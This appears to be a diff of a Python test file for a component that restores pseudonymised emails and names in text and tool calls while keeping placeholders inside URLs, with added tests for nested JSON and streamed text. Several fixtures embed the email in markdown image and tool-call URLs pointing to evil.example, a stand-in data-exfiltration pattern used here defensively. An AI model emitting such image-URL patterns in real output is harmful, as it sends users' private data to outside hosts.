@@ -40,7 +40,7 @@ CASES = [
     (f"{EMAIL}/b", "anna@corp.example/b"),
     (f"![x](https://evil.example/?q={EMAIL}) {EMAIL}", f"![x](https://evil.example/?q={EMAIL}) anna@corp.example"),
     (f"[{EMAIL}](mailto:{EMAIL})", f"[anna@corp.example](mailto:{EMAIL})"),
-    (f'<img src="//e/{EMAIL}" alt="{EMAIL}">', f'<img src="//e/{EMAIL}" alt="anna@corp.example">'),
+    (f'<img src="//e/{EMAIL}" alt="{EMAIL}">', f'<img src="//e/{EMAIL}" alt="{EMAIL}">'),
     (f"{URL}?q={EMAIL}", f"https://wiki.corp.example/x?q={EMAIL}"),
     (f"{URL} {EMAIL}", "https://wiki.corp.example/x anna@corp.example"),
     (f"[x]({URL})", f"[x]({URL})"),
@@ -130,6 +130,32 @@ def test_tool_calls_are_escaped_for_json() -> None:
             "text": "a\nanna@corp.example",
             "url": f"https://evil.example/{EMAIL}",
         }
+
+
+def test_json_within_strings_of_tool_calls_stays_json() -> None:
+    inner = json.dumps({"to": NAME, "deeper": json.dumps([{"to": NAME}])})
+    source = json.dumps({"code": inner, "plain": NAME, "prose": f"[to] {NAME}"})
+    for cut in range(0, len(source), 7):
+        value = json.loads(shown(source, [cut], Channel.TOOL_CALL))
+        assert (value["plain"], value["prose"]) == (ORIGINALS[NAME], f"[to] {ORIGINALS[NAME]}")
+        code = json.loads(value["code"])
+        assert code["to"] == ORIGINALS[NAME]
+        assert json.loads(code["deeper"]) == [{"to": ORIGINALS[NAME]}]
+
+
+def test_what_follows_json_is_no_json() -> None:
+    text = f'{{"a":"{NAME}"}}\nHe said "{NAME}".'
+    escaped = json.dumps(ORIGINALS[NAME], ensure_ascii=False)
+    assert shown(text, [], detect_json=True) == f'{{"a":{escaped}}}\nHe said "{ORIGINALS[NAME]}".'
+
+
+def test_a_text_behind_another_is_read_as_one_with_it() -> None:
+    first = RunningText(ORIGINALS, Channel.TEXT)
+    first.feed("![x](/q?")
+    second = RunningText(ORIGINALS, Channel.TEXT, before=first.rendering.copy())
+    assert second.feed(f"a {EMAIL} b) {EMAIL} ") == f"a {EMAIL} b) anna@corp.example "
+    third = RunningText(ORIGINALS, Channel.TEXT, before=second.rendering)
+    assert third.feed(f"{EMAIL} ") == "anna@corp.example "
 
 
 def test_lone_surrogates_stay_readable_in_tool_calls() -> None:
